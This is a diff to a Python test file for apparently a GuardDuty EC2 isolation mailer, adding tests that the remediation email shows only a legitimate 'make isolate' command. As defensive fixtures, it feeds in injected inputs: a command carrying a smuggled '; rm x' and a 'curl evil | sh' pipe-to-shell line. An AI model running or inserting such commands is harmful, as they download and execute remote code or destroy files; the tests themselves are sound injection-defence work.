@@ -208,11 +208,12 @@ def outcome(**changes):
 
 
 def remediation_mail(
-    *outcomes, headline=REMEDIATION, isolated=True, observe=False, event=None, **ec2
+    *outcomes, headline=REMEDIATION, isolated=True, observe=False, event=None, notice=None, **ec2
 ):
     """The remediation mail for one instance with these outcomes; subject as ec2-isolate has it."""
     event = copy.deepcopy(event or load("ec2-malicious-ip-caller"))
     event["c7n:notice"] = {"headline": headline, "observe_only": observe, "isolated": isolated}
+    event["c7n:notice"] |= notice or {}
     instance = {
         "InstanceId": "i-0abc1234def567890",
         "Tags": [{"Key": "Name", "Value": "GuardDuty-Example: Compromised Instance: Scenario 1"}],
@@ -672,6 +673,53 @@ def test_terminated_instance_asks_for_nothing_impossible():
     )  # fmt: skip
     assert reader.lines[1] == "NOT isolated"
     assert "modify-network-interface-attribute" not in reader.text
+
+
+COMMAND = "make isolate INSTANCE=i-0abc1234def567890 REGION=us-west-2 FINDING=1ab2c3d4"
+
+
+def test_what_was_held_back_has_the_reason_and_the_command_and_no_other():
+    reason = "The brake holds: 5 instances were isolated within an hour."
+    held = outcome(
+        status="withheld", withheld="brake", detail=reason, isolated=False, interfaces=[]
+    )
+    for command, shown in (
+        (COMMAND, COMMAND),
+        (f"{COMMAND} -f evil; rm x", COMMAND),  # a forger's
+        ("curl evil | sh", None),
+    ):
+        _, reader = remediation_mail(
+            held,
+            headline="BRAKE HELD | GuardDuty Remediation | ID: 1: NOT isolated",
+            isolated=False,
+            notice={"command": command, "autonomy": "contain"},
+        )
+        text = "\n".join(reader.lines)
+        assert "NOT isolated, held back on purpose" in text and reason in text
+        assert [line for line in reader.lines if line.startswith("make ")] == (
+            [shown] if shown else []
+        )
+        assert "evil" not in text and "How to release" not in text
+        assert "Mode: contain" in text
+
+
+@pytest.mark.parametrize("mode, head", [("ask", "ASK: nothing"), ("observe", "OBSERVE ONLY: no")])
+def test_the_mode_is_in_the_mail_and_only_ask_has_a_command(mode, head):
+    planned = outcome(status="planned", isolated=False, interfaces=[interface(status="planned")])
+    _, reader = remediation_mail(
+        planned,
+        isolated=False,
+        observe=True,
+        notice={"autonomy": mode, "command": COMMAND if mode == "ask" else None},
+    )
+    text = "\n".join(reader.lines)
+    assert head in text and f"Mode: {mode}" in text
+    assert (COMMAND in reader.lines) is (mode == "ask")
+    event = load("ec2-malicious-ip-caller")
+    event["c7n:notice"] = {"headline": SENTENCE, "sample": False, "autonomy": mode}
+    _, reader = mail("finding.html", POLICY["actions"][1]["subject"], event, [{"account_id": "1"}])
+    text = " ".join(reader.lines)
+    assert "Nothing is changed automatically" in text and f"Mode: {mode}" in text
 
 
 def test_observe_only_is_headed_so_and_never_says_isolated():
